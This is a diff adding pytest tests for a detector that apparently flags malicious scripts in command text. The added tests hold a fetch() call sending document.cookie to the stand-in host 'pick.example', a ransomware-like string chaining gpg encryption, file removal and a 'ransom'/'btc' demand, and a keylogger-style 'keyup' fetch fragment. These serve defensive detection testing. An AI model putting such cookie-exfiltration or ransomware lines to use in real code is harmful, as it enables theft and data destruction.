@@ -54,11 +54,28 @@ def test_texts_of_a_call_are_not_read_as_one_program() -> None:
     assert "mail_forwarded" in assess(EmbeddedModel.COMMANDS, ";".join(parts)).issues
 
 
+@pytest.mark.parametrize("between", ["x, " * 250, "fetch(y), " * 80])
+def test_words_of_a_long_line_that_are_far_from_each_other_are_no_program(between: str) -> None:
+    sends = "fetch('https://pick.example/?c='"
+
+    assert "malicious_script" not in assess(EmbeddedModel.COMMANDS, f"{sends} {between} document.cookie").issues
+    assert "malicious_script" in assess(EmbeddedModel.COMMANDS, f"{sends} {between} {sends}+document.cookie").issues
+
+
+def test_nearer_words_count_between_far_ones() -> None:
+    code = f"gpg -e x; glob; os.remove(); send {'x ' * 90} a ransom {'x ' * 90} btc"
+
+    assert "malicious_script" in assess(EmbeddedModel.COMMANDS, code).issues
+    assert "malicious_script" not in assess(EmbeddedModel.COMMANDS, code.replace("ransom", "sum")).issues
+
+
 def test_the_kinds_may_be_chosen() -> None:
     assert {rule.kind for rule in dangerous_calls().rules} <= kinds_of(EmbeddedModel.COMMANDS)
 
 
-@pytest.mark.parametrize("word", [b"clipboard ", b"cluster-admin\n\0\n", b"btoa('", b'capabilities path "*" {'])
+@pytest.mark.parametrize(
+    "word", [b"clipboard ", b"cluster-admin\n\0\n", b"btoa('", b'capabilities path "*" {', b"keyup//a/fetch('//b"]
+)
 def test_hostile_text_ends_in_time(word: bytes) -> None:
     budget = Budget(Limits(seconds_max=5))
     found = list(find_dangerous_calls(word * 8000, budget))
